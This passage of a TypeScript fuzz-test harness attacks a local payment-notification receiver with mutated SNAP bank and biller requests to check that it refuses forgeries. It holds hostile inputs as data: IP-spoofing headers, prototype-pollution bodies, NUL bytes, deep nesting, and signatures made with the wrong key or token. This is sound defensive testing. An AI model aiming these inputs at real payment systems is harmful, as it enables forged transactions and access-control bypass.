import { type KeyObject, createHash, createHmac, createPrivateKey, sign } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { type Agent, request } from 'node:http';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { JSON_STYLES, type JsonStyle, serialize } from '../support/json-styles';
import { OTHER_PRIVATE_KEY, TEST_PRIVATE_KEY, TEST_PUBLIC_KEY, buildBulkCashinNotify, buildBulkItem, buildQrCpmNotify } from '../support/snap';

// The hostile-input scenario's corpus: correctly signed requests of every kind the public port
// serves, mutations drawn by fast-check, and what each mutated request may get. Every mutation
// says whether the request it leaves is forged ('refuse': no event, a 4xx), the same request in
// another spelling ('accept': served like a control), or something the contract leaves open
// ('either': anything but a 5xx).

// ---------------------------------------------------------------------------------------------
// Sources and secrets

/** Every secret is at least 16 characters, so the log scan can index them by prefix. */
export const SECRETS = {
  billerA: 'hostile-biller-a-path-token-6q3Zr9Kx',
  billerB: 'hostile-biller-b-path-token-Vt82mPq1',
  clientSecretY: 'hostile-bank-y-client-secret-Jf73Ka0s',
  clientSecretW: 'hostile-bank-w-client-secret-Lq58Xn2d',
  admin: 'hostile-admin-token-Rk29Vb7Yc4Wn',
} as const;

/** x and z asymmetric, y and w symmetric; letters in them, so a case change is another id. */
export const PARTNERS = { x: 'HOSTILE-ASYM-PARTNER-X', y: 'HOSTILE-SYM-PARTNER-Y', w: 'HOSTILE-SYM-PARTNER-W', z: 'HOSTILE-ASYM-PARTNER-Z' } as const;

// bank-z and biller-b are allowed only from addresses a caller on 127.0.0.1 can claim only by
// spoofing X-Forwarded-For, which TRUST_PROXY=0 must ignore.
const BANK_Z_IP = '203.0.113.10';
const BILLER_B_IP = '198.51.100.7';

/** Small, so a bulk notify over it is refused without a large body. */
const MAX_BULK_ITEMS = 5;

export function writeHostileConfig(): string {
  const dir = mkdtempSync(join(tmpdir(), 'receiver-hostile-'));
  writeFileSync(join(dir, 'provider.pub.pem'), TEST_PUBLIC_KEY);
  const limits = { rateLimitPerMinute: 1_000_000 };
  const snap = (id: string, partnerId: string, signature: 'symmetric' | 'asymmetric', allowedIps: string[], clientSecret?: string) => ({
    id,
    type: 'snap',
    partnerId,
    allowedIps,
    signature,
    publicKey: { file: 'provider.pub.pem' },
    ...(clientSecret ? { clientSecret } : {}),
    maxBulkItems: MAX_BULK_ITEMS,
    ...limits,
  });
  const config = {
    sources: [
      { id: 'biller-a', type: 'biller', allowedIps: ['127.0.0.1'], token: SECRETS.billerA, ...limits },
      { id: 'biller-b', type: 'biller', allowedIps: [BILLER_B_IP], token: SECRETS.billerB, ...limits },
      snap('bank-x', PARTNERS.x, 'asymmetric', ['127.0.0.1']),
      snap('bank-y', PARTNERS.y, 'symmetric', ['127.0.0.1'], SECRETS.clientSecretY),
      snap('bank-w', PARTNERS.w, 'symmetric', ['127.0.0.1'], SECRETS.clientSecretW),
      snap('bank-z', PARTNERS.z, 'asymmetric', [BANK_Z_IP]),
    ],
    subscribers: [],
  };
  const file = join(dir, 'config.json');
  writeFileSync(file, JSON.stringify(config));
  return file;
}

// ---------------------------------------------------------------------------------------------
// Signing: node's crypto directly, keys parsed once (RSA signing is most of the client's work)

const PROVIDER_KEY = createPrivateKey(TEST_PRIVATE_KEY);
const OTHER_KEY = createPrivateKey(OTHER_PRIVATE_KEY);
const sha256Hex = (data: string | Buffer) => createHash('sha256').update(data).digest('hex');
const hmac = (text: string, secret: string) => createHmac('sha512', secret).update(text).digest('base64');
const rsaCache = new Map<string, string>();

function rsa(text: string, key: KeyObject): string {
  // Access-token requests sign only `clientId|timestamp`, which repeats within a second.
  const cacheKey = `${key === PROVIDER_KEY ? 'p' : 'o'}:${text}`;
  const cached = text.length < 128 ? rsaCache.get(cacheKey) : undefined;
  if (cached) return cached;
  const signature = sign('sha256', Buffer.from(text), key).toString('base64');
  if (text.length < 128 && rsaCache.size < 10_000) rsaCache.set(cacheKey, signature);
  return signature;
}

/** `2026-11-22T10:00:00+07:00` for an instant, as the seeds write X-TIMESTAMP. */
export function jakarta(ms: number): string {
  return `${new Date(ms + 7 * 3600_000).toISOString().slice(0, 19)}+07:00`;
}

/** A correct access-token request's headers (the scenario's own tokens are issued with it). */
export function accessTokenHeaders(partnerId: string): [string, string][] {
  const timestamp = jakarta(Date.now());
  return [
    ['Content-Type', 'application/json'],
    ['X-CLIENT-KEY', partnerId],
    ['X-TIMESTAMP', timestamp],
    ['X-SIGNATURE', rsa(`${partnerId}|${timestamp}`, PROVIDER_KEY)],
  ];
}

// ---------------------------------------------------------------------------------------------
// The wire

export interface WireRequest {
  method: string;
  target: string;
  /** In order, names spelled as sent, repeats kept. */
  headers: [string, string][];
  body: Buffer | null;
  /** Streamed with Transfer-Encoding: chunked instead of a Content-Length. */
  chunked: boolean;
  /** Written byte for byte on a socket of its own: what node's client refuses to send. */
  raw: { version: string; lineEnd: string; contentLength: boolean } | null;
}

export interface Outcome {
  /** 0: no answer (refused or dropped connection); -1: not sent, node's client refused the request. */
  readonly status: number;
  readonly body: string;
}

const TIMEOUT_MS = 20_000;

/** One exchange through node's client (keep-alive agent); a network error is status 0. */
export function sendWire(agent: Agent, port: number, wire: WireRequest): Promise<Outcome> {
  if (wire.raw) return sendRaw(port, wire);
  return new Promise((resolve) => {
    const headers = wire.headers.flatMap(([name, value]) => [name, value]);
    if (wire.chunked) headers.push('Transfer-Encoding', 'chunked');
    else if (wire.body) headers.push('Content-Length', String(wire.body.length));
    let req: ReturnType<typeof request>;
    try {
      req = request({ agent, host: '127.0.0.1', port, method: wire.method, path: wire.target, headers, timeout: TIMEOUT_MS }, (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, body: Buffer.concat(chunks).toString('utf8') }));
        res.on('error', (error) => resolve({ status: 0, body: `response: ${error.message}` }));
      });
    } catch (error) {
      // Node's client refused to send it at all: a mistake in the corpus, not the receiver's.
      resolve({ status: -1, body: `not sent: ${(error as Error).message}` });
      return;
    }
    req.on('timeout', () => req.destroy(new Error('timeout')));
    req.on('error', (error) => resolve({ status: 0, body: `request: ${error.message}` }));
    if (wire.body && wire.chunked) {
      for (let at = 0; at < wire.body.length; at += 64 * 1024) req.write(wire.body.subarray(at, at + 64 * 1024));
      req.end();
    } else {
      req.end(wire.body ?? undefined);
    }
  });
}

function sendRaw(port: number, wire: WireRequest): Promise<Outcome> {
  const raw = wire.raw as NonNullable<WireRequest['raw']>;
  const lines = [`${wire.method} ${wire.target} ${raw.version}`, ...wire.headers.map(([name, value]) => `${name}: ${value}`), 'Connection: close'];
  const body = wire.body ?? Buffer.alloc(0);
  if (raw.contentLength || (!wire.chunked && body.length > 0)) lines.push(`Content-Length: ${body.length}`);
  if (wire.chunked) lines.push('Transfer-Encoding: chunked');
  const payload = wire.chunked ? Buffer.concat([Buffer.from(`${body.length.toString(16)}\r\n`), body, Buffer.from('\r\n0\r\n\r\n')]) : body;
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1');
    const chunks: Buffer[] = [];
    const timer = setTimeout(() => socket.destroy(new Error('timeout')), TIMEOUT_MS);
    let failure = '';
    socket.on('data', (chunk: Buffer) => chunks.push(chunk));
    socket.on('error', (error) => {
      failure = error.message;
    });
    socket.on('close', () => {
      clearTimeout(timer);
      const text = Buffer.concat(chunks).toString('utf8');
      const status = Number(/^HTTP\/1\.[01] (\d{3})/.exec(text)?.[1] ?? 0);
      resolve({ status, body: status === 0 ? `raw: ${failure || 'closed without an answer'}` : text.slice(text.indexOf('\r\n\r\n') + 4) });
    });
    // Write, not end: a half-closed socket may lose an answer that waits on the database.
    socket.write(Buffer.concat([Buffer.from(`${lines.join(raw.lineEnd)}${raw.lineEnd}${raw.lineEnd}`, 'latin1'), payload]));
  });
}

// ---------------------------------------------------------------------------------------------
// Recipes: what fast-check draws

export type Kind = 'biller' | 'token' | 'qr-sym' | 'qr-asym' | 'bulk-sym' | 'bulk-asym';
export const KINDS: readonly Kind[] = ['biller', 'token', 'qr-sym', 'qr-asym', 'bulk-sym', 'bulk-asym'];
export type Expect = 'accept' | 'either' | 'refuse';

type OpName =
  | 'body.bytes'
  | 'body.hostile'
  | 'target.spelling'
  | 'target.resigned'
  | 'target.biller'
  | 'source.biller'
  | 'credential.biller'
  | 'credential.wire'
  | 'credential.resigned'
  | 'query.biller'
  | 'method'
  | 'timestamp.wire'
  | 'timestamp.resigned'
  | 'signature.wire'
  | 'signature.resigned'
  | 'partner'
  | 'header'
  | 'raw';

interface Edit {
  readonly kind: 'replace' | 'insert' | 'delete';
  readonly at: number;
  readonly byte: number;
}

export interface Op {
  readonly name: OpName;
  /** Which variant of the op (modulo their count), and two free choices inside it. */
  readonly v: number;
  readonly at: number;
  readonly pick: number;
  /** Used by body.bytes only. */
  readonly edits: readonly Edit[];
}

export interface Recipe {
  readonly kind: Kind;
  readonly style: JsonStyle;
  readonly extra: unknown;
  readonly items: number;
  readonly choice: number;
  readonly ops: readonly Op[];
}

// Listed more than once where a forgery is likelier to slip through, so it is drawn more often.
const SNAP_OPS: readonly OpName[] = [
  'body.bytes', 'body.bytes', 'body.bytes', 'body.hostile', 'body.hostile',
  'target.spelling', 'target.resigned', 'method',
  'timestamp.wire', 'timestamp.resigned', 'signature.wire', 'signature.wire', 'signature.resigned',
  'partner', 'header', 'header', 'raw',
];
const OPS_BY_KIND: Readonly<Record<Kind, readonly OpName[]>> = {
  biller: ['target.biller', 'source.biller', 'credential.biller', 'credential.biller', 'credential.biller', 'query.biller', 'method', 'header', 'raw'],
  token: ['body.bytes', 'body.hostile', 'target.spelling', 'method', 'timestamp.wire', 'timestamp.resigned', 'signature.wire', 'signature.resigned', 'partner', 'header', 'raw'],
  'qr-sym': [...SNAP_OPS, 'credential.wire', 'credential.wire', 'credential.resigned'],
  'qr-asym': SNAP_OPS,
  'bulk-sym': [...SNAP_OPS, 'credential.wire', 'credential.wire', 'credential.resigned'],
  'bulk-asym': SNAP_OPS,
};

/** One op per part of the request, so no two ops change (and perhaps restore) the same thing. */
const groupOf = (name: OpName) => name.split('.')[0] as string;

const editArb = fc.record({
  kind: fc.constantFrom<Edit['kind']>('replace', 'insert', 'delete'),
  at: fc.nat(),
  // Whitespace, quotes and escapes now and then: they make bodies that stay the same JSON.
  byte: fc.oneof({ weight: 3, arbitrary: fc.integer({ min: 0, max: 255 }) }, { weight: 1, arbitrary: fc.constantFrom(0x20, 0x0a, 0x09, 0x22, 0x5c, 0x2c, 0x7d, 0x30) }),
});

const opArb = (names: readonly OpName[]) =>
  fc.record({ name: fc.constantFrom(...names), v: fc.nat(), at: fc.nat(), pick: fc.nat(), edits: fc.array(editArb, { minLength: 1, maxLength: 3 }) });

// Asymmetric notifies weigh less: each needs an RSA signature, most of the client's time, and
// their checks differ from the symmetric ones only in the signature itself.
const KIND_WEIGHTS: Readonly<Record<Kind, number>> = { biller: 4, token: 2, 'qr-sym': 4, 'bulk-sym': 4, 'qr-asym': 2, 'bulk-asym': 2 };

export const recipeArb: fc.Arbitrary<Recipe> = fc.oneof(...KINDS.map((kind) => ({ weight: KIND_WEIGHTS[kind], arbitrary: fc.constant(kind) }))).chain((kind) =>
  fc.record({
    kind: fc.constant(kind),
    style: fc.constantFrom(...JSON_STYLES),
    extra: fc.jsonValue({ maxDepth: 2, stringUnit: 'grapheme' }),
    items: fc.integer({ min: 1, max: 3 }),
    choice: fc.nat(),
    ops: fc.uniqueArray(opArb(OPS_BY_KIND[kind]), { minLength: 1, maxLength: 3, selector: (op) => groupOf(op.name) }),
  }),
);

// ---------------------------------------------------------------------------------------------
// Building a request from a recipe

export interface RunContext {
  readonly port: number;
  readonly tag: string;
  /** Access tokens issued at the start to bank-y (the notifies') and bank-w (another source's). */
  readonly tokenY: string;
  readonly tokenW: string;
}

export interface Built {
  readonly wire: WireRequest;
  readonly expect: Expect;
  readonly ops: readonly string[];
  /** Values sent that must never be logged or stored: X-SIGNATURE values, Bearer and path tokens. */
  readonly sentSecrets: readonly string[];
}

export type Special = 'control' | 'huge-declared' | 'huge-chunked' | null;

const worst = (a: Expect, b: Expect): Expect => (a === 'refuse' || b === 'refuse' ? 'refuse' : a === 'either' || b === 'either' ? 'either' : 'accept');
const variantOf = <T>(list: readonly T[], v: number): T => list[v % list.length] as T;
const ROUTES = { qr: '/v1.0/qr/qr-cpm-notify', bulk: '/v1.0/emoney/bulk-cashin-notify', token: '/v1.0/access-token/b2b' } as const;
const HUGE_BYTES = 1024 * 1024 + 64;

interface Step {
  readonly expect: Expect;
  readonly label: string;
}

/** The request of recipe `index`: a control, a huge body, or the recipe's mutations. */
export function buildRequest(recipe: Recipe, index: number, ctx: RunContext, special: Special): Built {
  const ops = special === null ? recipe.ops : [];
  const built = recipe.kind === 'biller' ? buildBiller(recipe, index, ctx, ops, special) : buildSnap(recipe, index, ctx, ops, special);
  const headerBytes = built.wire.headers.reduce((n, [name, value]) => n + Buffer.byteLength(name) + Buffer.byteLength(value) + 4, built.wire.target.length);
  // Node answers 431 past 16 KiB of headers, before the receiver sees anything.
  const expect = headerBytes > 16_384 ? 'refuse' : headerBytes > 15_000 ? worst(built.expect, 'either') : built.expect;
  built.wire.headers.push(['X-Request-Id', requestIdOf(ctx, index)]);
  return { ...built, expect };
}

export const requestIdOf = (ctx: RunContext, index: number) => `hostile-${ctx.tag}-${index}`;

// ---------------------------------------------------------------------------------------------
// SNAP: access-token requests and notifies

type Mode = 'symmetric' | 'asymmetric';

interface SnapDraft {
  readonly kind: Kind;
  readonly mode: Mode;
  route: string;
  signedPath: string;
  body: Buffer;
  signedBody: Buffer;
  timestamp: string;
  signedTimestamp: string;
  partner: string;
  signedClientId: string;
  token: string;
  signedToken: string;
  algorithm: 'hmac' | 'rsa';
  secret: string;
  key: KeyObject;
  transform: (text: string) => string;
  extraHeaders: [string, string][];
  /** The request's index: what keeps its references and X-EXTERNAL-ID its own. */
  readonly index: number;
  readonly externalId: string;
}

function modeOf(kind: Kind): Mode {
  return kind.endsWith('-sym') ? 'symmetric' : 'asymmetric';
}

// The seed documents' examples, read once: the builders read their fixture file on every call.
const QR_EXAMPLE = buildQrCpmNotify();
const BULK_EXAMPLE = buildBulkCashinNotify();
const BULK_ITEM = buildBulkItem();

function notifyValue(recipe: Recipe, index: number, ctx: RunContext, pad?: string): Record<string, unknown> {
  const additionalInfo = { deviceId: '12345679237', channel: 'mobilephone', extra: recipe.extra, ...(pad ? { pad } : {}) };
  if (recipe.kind.startsWith('qr')) {
    return { ...QR_EXAMPLE, originalPartnerReferenceNo: `HQ-${ctx.tag}-${index}`, latestTransactionStatus: `0${recipe.choice % 8}`, additionalInfo };
  }
  const items = Array.from({ length: recipe.items }, (_, k) => ({
    ...BULK_ITEM,
    partnerReferenceNo: `HB-${ctx.tag}-${index}-${k}`,
    responseCode: variantOf(['2004100', '2024100', '4094101', '5004100', '4034114'], recipe.choice + k),
  }));
  return { ...BULK_EXAMPLE, partnerBulkId: `HBULK-${ctx.tag}-${index}`, bulkObject: items, additionalInfo };
}

function buildSnap(recipe: Recipe, index: number, ctx: RunContext, ops: readonly Op[], special: Special): Built {
  const kind = recipe.kind;
  const isToken = kind === 'token';
  const mode: Mode = isToken ? 'asymmetric' : modeOf(kind);
  const huge = special === 'huge-declared' || special === 'huge-chunked';
  let body: Buffer;
  if (isToken) {
    const value = { grantType: 'client_credentials', ...(huge ? { pad: 'x'.repeat(HUGE_BYTES) } : {}) };
    body = Buffer.from(serialize(value, recipe.style));
  } else {
    body = Buffer.from(serialize(notifyValue(recipe, index, ctx, huge ? 'x'.repeat(HUGE_BYTES) : undefined), recipe.style));
  }
  const timestamp = jakarta(Date.now());
  // Token requests come from an asymmetric or a symmetric source alike: both have a public key.
  const partner = isToken ? (recipe.choice % 2 === 0 ? PARTNERS.y : PARTNERS.x) : mode === 'symmetric' ? PARTNERS.y : PARTNERS.x;
  const draft: SnapDraft = {
    kind,
    mode,
    route: isToken ? ROUTES.token : kind.startsWith('qr') ? ROUTES.qr : ROUTES.bulk,
    signedPath: '',
    body,
    signedBody: body,
    timestamp,
    signedTimestamp: timestamp,
    partner,
    signedClientId: partner,
    token: mode === 'symmetric' && !isToken ? ctx.tokenY : '',
    signedToken: mode === 'symmetric' && !isToken ? ctx.tokenY : '',
    algorithm: mode === 'symmetric' && !isToken ? 'hmac' : 'rsa',
    secret: SECRETS.clientSecretY,
    key: PROVIDER_KEY,
    transform: (text) => text,
    extraHeaders: [],
    index,
    externalId: `HX-${ctx.tag}-${index}`,
  };
  draft.signedPath = draft.route;

  const steps: Step[] = [];
  const ordered = (names: readonly OpName[]) => names.flatMap((name) => ops.filter((op) => op.name === name));
  // signature.resigned last: it alone decides what is signed wrongly, whatever the others changed.
  for (const op of ordered(['body.hostile', 'target.resigned', 'timestamp.resigned', 'partner', 'credential.resigned', 'signature.resigned'])) {
    steps.push(applySnapIntent(op, draft, recipe, ctx));
  }
  const signature = signSnap(draft);
  const wire: WireRequest = {
    method: 'POST',
    target: draft.route,
    headers: snapHeaders(draft, signature, ctx),
    body: draft.body,
    chunked: special === 'huge-chunked',
    raw: null,
  };
  const shape = { draft, recipe, ctx };
  const sentSecrets = [signature];
  for (const op of ordered(['body.bytes', 'target.spelling', 'method', 'timestamp.wire', 'signature.wire', 'credential.wire', 'header', 'raw'])) {
    // Taken before the header ops, which may put public values (partner ids, filler) in these headers.
    if (op.name === 'header') sentSecrets.push(...credentialsIn(wire));
    steps.push(applySnapWire(op, wire, shape));
  }
  if (!ops.some((op) => op.name === 'header')) sentSecrets.push(...credentialsIn(wire));
  if (huge) steps.push({ expect: 'refuse', label: `huge:${special}` });
  return { wire, expect: steps.reduce<Expect>((e, s) => worst(e, s.expect), 'accept'), ops: steps.map((s) => s.label), sentSecrets };
}

/** The X-SIGNATURE and Bearer values as they stand, split where a receiver might split them. */
function credentialsIn(wire: WireRequest): string[] {
  return wire.headers.flatMap(([name, value]) => {
    const lower = name.toLowerCase();
    if (lower === 'x-signature') return [value.trim(), ...value.split(/[\s,]+/)];
    if (lower === 'authorization') return value.split(/\s+/);
    return [];
  });
}

function signSnap(d: SnapDraft): string {
  let text: string;
  if (d.kind === 'token') text = `${d.signedClientId}|${d.signedTimestamp}`;
  else if (d.mode === 'symmetric') text = `POST:${d.signedPath}:${d.signedToken}:${sha256Hex(d.signedBody)}:${d.signedTimestamp}`;
  else text = `POST:${d.signedPath}:${sha256Hex(d.signedBody)}:${d.signedTimestamp}`;
  text = d.transform(text);
  return d.algorithm === 'hmac' ? hmac(text, d.secret) : rsa(text, d.key);
}

function snapHeaders(d: SnapDraft, signature: string, ctx: RunContext): [string, string][] {
  const headers: [string, string][] = [
    ['Host', `127.0.0.1:${ctx.port}`],
    ['Content-Type', 'application/json'],
    ['X-TIMESTAMP', d.timestamp],
    ['X-SIGNATURE', signature],
  ];
  if (d.kind === 'token') {
    headers.push(['X-CLIENT-KEY', d.partner]);
  } else {
    headers.push(['X-PARTNER-ID', d.partner], ['X-EXTERNAL-ID', d.externalId], ['CHANNEL-ID', '95221']);
    if (d.mode === 'symmetric') headers.push(['Authorization', `Bearer ${d.token}`]);
  }
  headers.push(['User-Agent', 'hostile-input/1.0'], ...d.extraHeaders);
  return headers;
}

const SPOOF_HEADERS: readonly (readonly [string, string])[] = [
  ['X-Forwarded-For', BANK_Z_IP],
  ['X-Forwarded-For', `${BANK_Z_IP}, 127.0.0.1`],
  ['X-Real-IP', BANK_Z_IP],
  ['Forwarded', `for=${BANK_Z_IP};proto=https`],
  ['True-Client-IP', BANK_Z_IP],
];

/** Provider-side changes: what is sent and what is signed change together (or on purpose not). */
function applySnapIntent(op: Op, d: SnapDraft, recipe: Recipe, ctx: RunContext): Step {
  const isToken = d.kind === 'token';
  switch (op.name) {
    case 'body.hostile': {
      const [variant, body, expect] = isToken ? hostileTokenBody(op) : hostileNotifyBody(op, d, recipe, ctx);
      d.body = body;
      d.signedBody = body;
      return { expect, label: `body.hostile:${variant}` };
    }
    case 'target.resigned': {
      const variant = variantOf(['case', 'encoded', 'double-slash', 'trailing-slash', 'dot-segment', 'other-route'] as const, op.v);
      d.route = variant === 'other-route' ? otherRoute(d.route, op.pick) : respellPath(d.route, variant, op.at, op.pick);
      d.signedPath = d.route;
      // The provider signs the odd path it sends: routing decides, and nothing may break.
      return { expect: variant === 'other-route' ? 'refuse' : 'either', label: `target.resigned:${variant}` };
    }
    case 'timestamp.resigned': {
      const variant = variantOf(['within', 'same-instant', 'beyond', 'malformed'] as const, op.v);
      const now = Date.now();
      let value: string;
      let expect: Expect;
      if (variant === 'within') {
        value = jakarta(now + ((op.pick % 401) - 200) * 1000);
        expect = 'accept';
      } else if (variant === 'same-instant') {
        value = variantOf([new Date(now).toISOString(), offsetTimestamp(now, -3), offsetTimestamp(now, 14)], op.pick);
        expect = 'accept';
      } else if (variant === 'beyond') {
        value = jakarta(now + (op.pick % 2 === 0 ? 1 : -1) * (330 + (op.at % 259_200)) * 1000);
        expect = 'refuse';
      } else {
        value = malformedTimestamp(now, op.pick);
        expect = 'refuse';
      }
      d.timestamp = value;
      d.signedTimestamp = value;
      return { expect, label: `timestamp.resigned:${variant}` };
    }
    case 'signature.resigned': {
      const variants = isToken
        ? (['other-key', 'other-client-id', 'no-pipe', 'swapped'] as const)
        : (['other-key', 'wrong-method', 'swap-algorithm', 'other-body', 'reordered-keys', 'no-timestamp', 'upper-hex', 'other-token'] as const);
      const variant = variantOf<string>(variants, op.v);
      switch (variant) {
        case 'other-key':
          if (d.algorithm === 'rsa') d.key = OTHER_KEY;
          else d.secret = SECRETS.clientSecretW;
          break;
        case 'other-client-id':
          d.signedClientId = d.partner === PARTNERS.x ? PARTNERS.w : PARTNERS.x;
          break;
        case 'no-pipe':
          d.transform = (text) => text.replace('|', '');
          break;
        case 'swapped':
          d.transform = (text) => text.split('|').reverse().join('|');
          break;
        case 'wrong-method':
          d.transform = (text) => text.replace(/^POST:/, variantOf(['GET:', 'post:', 'PUT:'], op.pick));
          break;
        case 'swap-algorithm':
          d.algorithm = d.algorithm === 'rsa' ? 'hmac' : 'rsa';
          break;
        case 'other-body':
          // A byte no form of the sent body can grow: not whitespace, outside any JSON.
          d.signedBody = Buffer.concat([d.signedBody, Buffer.from('x')]);
          break;
        case 'reordered-keys':
          d.signedBody = reordered(d.signedBody, recipe.style);
          break;
        case 'no-timestamp':
          d.transform = (text) => text.slice(0, text.length - d.signedTimestamp.length - 1);
          break;
        case 'upper-hex':
          d.transform = (text) => text.replace(/:([0-9a-f]{64}):/, (_m, hex: string) => `:${hex.toUpperCase()}:`);
          break;
        case 'other-token':
          d.signedToken = d.mode === 'symmetric' ? ctx.tokenW : '';
          if (d.mode !== 'symmetric') d.key = OTHER_KEY;
          break;
      }
      return { expect: 'refuse', label: `signature.resigned:${variant}` };
    }
    case 'credential.resigned': {
      const variant = variantOf(['one-char', 'other-source', 'biller-token', 'admin-token'] as const, op.v);
      const token = variant === 'one-char' ? oneChar(d.token, op.at, op.pick) : variant === 'other-source' ? ctx.tokenW : variant === 'biller-token' ? SECRETS.billerA : SECRETS.admin;
      d.token = token;
      d.signedToken = token;
      return { expect: 'refuse', label: `credential.resigned:${variant}` };
    }
    case 'partner':
      return isToken ? tokenPartner(op, d) : notifyPartner(op, d);
    default:
      throw new Error(`${op.name} is not a provider-side op`);
  }
}

function notifyPartner(op: Op, d: SnapDraft): Step {
  const variant = variantOf(['other-mode', 'sibling', 'spoofed', 'unknown', 'case', 'empty', 'overlong', 'suffix'] as const, op.v);
  const own = d.partner;
  switch (variant) {
    case 'other-mode':
      d.partner = d.mode === 'symmetric' ? PARTNERS.x : PARTNERS.y;
      break;
    case 'sibling':
      d.partner = d.mode === 'symmetric' ? PARTNERS.w : PARTNERS.z;
      break;
    case 'spoofed':
      d.partner = PARTNERS.z;
      d.extraHeaders.push([...variantOf(SPOOF_HEADERS, op.pick)]);
      break;
    case 'unknown':
      d.partner = 'HOSTILE-UNKNOWN-PARTNER';
      break;
    case 'case':
      d.partner = own.toLowerCase();
      break;
    case 'empty':
      d.partner = '';
      break;
    case 'overlong':
      d.partner = own + 'X'.repeat(4000 + (op.pick % 4000));
      break;
    case 'suffix':
      d.partner = `${own} ${own}`;
      break;
  }
  return { expect: 'refuse', label: `partner:${variant}` };
}

function tokenPartner(op: Op, d: SnapDraft): Step {
  const variant = variantOf(['other-unsigned', 'other-resigned', 'spoofed-resigned', 'unknown', 'case', 'empty', 'overlong'] as const, op.v);
  const other = d.partner === PARTNERS.x ? variantOf([PARTNERS.y, PARTNERS.w], op.pick) : variantOf([PARTNERS.x, PARTNERS.w], op.pick);
  let expect: Expect = 'refuse';
  switch (variant) {
    case 'other-unsigned':
      d.partner = other;
      break;
    case 'other-resigned':
      // Another source that holds the same test key: a real token request of that source.
      d.partner = other;
      d.signedClientId = other;
      expect = 'either';
      break;
    case 'spoofed-resigned':
      d.partner = PARTNERS.z;
      d.signedClientId = PARTNERS.z;
      d.extraHeaders.push([...variantOf(SPOOF_HEADERS, op.pick)]);
      break;
    case 'unknown':
      d.partner = 'HOSTILE-UNKNOWN-CLIENT';
      d.signedClientId = d.partner;
      break;
    case 'case':
      d.partner = d.partner.toLowerCase();
      break;
    case 'empty':
      d.partner = '';
      break;
    case 'overlong':
      d.partner += 'X'.repeat(4000 + (op.pick % 4000));
      d.signedClientId = d.partner;
      break;
  }
  return { expect, label: `partner:${variant}` };
}

function hostileTokenBody(op: Op): [string, Buffer, Expect] {
  const variants: readonly [string, string | Buffer, Expect][] = [
    ['grant_type', '{"grant_type":"client_credentials"}', 'either'],
    ['extra-fields', '{"grantType":"client_credentials","scope":"all","__proto__":{"admin":true}}', 'either'],
    ['dup-key', '{"grantType":"password","grantType":"client_credentials"}', 'either'],
    ['wrong-grant', '{"grantType":"password"}', 'refuse'],
    ['empty-grant', '{"grantType":""}', 'refuse'],
    ['deep', `${'['.repeat(40 + (op.pick % 2000))}${']'.repeat(40 + (op.pick % 2000))}`, 'refuse'],
    ['array', '[{"grantType":"client_credentials"}]', 'refuse'],
    ['empty', '', 'refuse'],
    ['not-json', 'grantType=client_credentials', 'refuse'],
    ['nul', '{"grantType":"client_credentials\\u0000"}', 'refuse'],
    ['latin1', Buffer.from('{"grantType":"client_credentials\xe9"}', 'latin1'), 'refuse'],
  ];
  const [variant, body, expect] = variantOf(variants, op.v);
  return [variant, Buffer.isBuffer(body) ? body : Buffer.from(body), expect];
}

function hostileNotifyBody(op: Op, d: SnapDraft, recipe: Recipe, ctx: RunContext): [string, Buffer, Expect] {
  const qr = d.kind.startsWith('qr');
  const value = JSON.parse(d.body.toString('utf8')) as Record<string, unknown>;
  const refKey = qr ? 'originalPartnerReferenceNo' : 'partnerBulkId';
  const text = (v: unknown) => Buffer.from(serialize(v, recipe.style));
  const variant = variantOf(
    ['deep', 'array', 'scalar', 'empty', 'not-json', 'nul-in-reference', 'nul-in-field', 'latin1', 'lone-surrogate', 'dup-key', 'proto', 'overlong-field', 'wrong-type', 'bad-status', 'missing-field', 'too-many', 'bom', 'utf16', 'numbers', 'big-string'] as const,
    op.v,
  );
  const depth = 33 + (op.pick % 3000);
  switch (variant) {
    case 'deep': {
      const raw = d.body.toString('utf8');
      const nested = `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
      return [variant, Buffer.from(raw.replace(/"additionalInfo"\s*:\s*\{/, `"additionalInfo":{"deep":${nested},`)), 'refuse'];
    }
    case 'array':
      return [variant, Buffer.from(`[${d.body.toString('utf8')}]`), 'refuse'];
    case 'scalar':
      return [variant, Buffer.from(variantOf(['42', '"notify"', 'null', 'true', '-0', '1e309'], op.pick)), 'refuse'];
    case 'empty':
      return [variant, Buffer.alloc(0), 'refuse'];
    case 'not-json':
      return [variant, Buffer.from(variantOf(['originalPartnerReferenceNo=1&merchantId=2', '<xml/>', '{"a":1', '{\'a\':1}', 'NaN'], op.pick)), 'refuse'];
    case 'nul-in-reference':
      // A provider's own bytes: JSON allows \u0000 in a string, and no input may get a 5xx.
      return [variant, text(qr ? { ...value, [refKey]: `HQ-${ctx.tag}-${d.index}\u0000NUL` } : withItem(value, { partnerReferenceNo: `HB-${ctx.tag}-${d.index}-0\u0000NUL` })), 'either'];
    case 'nul-in-field':
      return [variant, text({ ...value, additionalInfo: { note: 'a\u0000b', key: { 'k\u0000': 1 } } }), 'either'];
    case 'latin1': {
      const raw = d.body.toString('latin1').replace('"Kades"', '"K\xe4d\xe9s\xff"').replace('"John Doe"', '"J\xf6hn D\xf8e\xfe"');
      return [variant, Buffer.from(raw, 'latin1'), 'either'];
    }
    case 'lone-surrogate':
      return [variant, Buffer.from(d.body.toString('utf8').replace('"mobilephone"', '"\\ud800mobile\\udfff"')), 'either'];
    case 'dup-key': {
      const raw = d.body.toString('utf8').trimEnd();
      return [variant, Buffer.from(`${raw.slice(0, -1)},"${refKey}":"${qr ? 'HQ' : 'HBULK'}-DUP-${ctx.tag}-${d.index}"}`), 'either'];
    }
    case 'proto':
      return [variant, Buffer.from(d.body.toString('utf8').replace(/"additionalInfo"\s*:\s*\{/, '"additionalInfo":{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},')), 'either'];
    case 'overlong-field':
      return [variant, text(qr ? { ...value, merchantId: 'M'.repeat(65) } : withItem(value, { customerNumber: '6'.repeat(65) })), 'refuse'];
    case 'wrong-type':
      return [variant, text({ ...value, ...(qr ? { amount: { value: 50000.0, currency: 'IDR' } } : { bulkObject: 'none' }) }), 'refuse'];
    case 'bad-status':
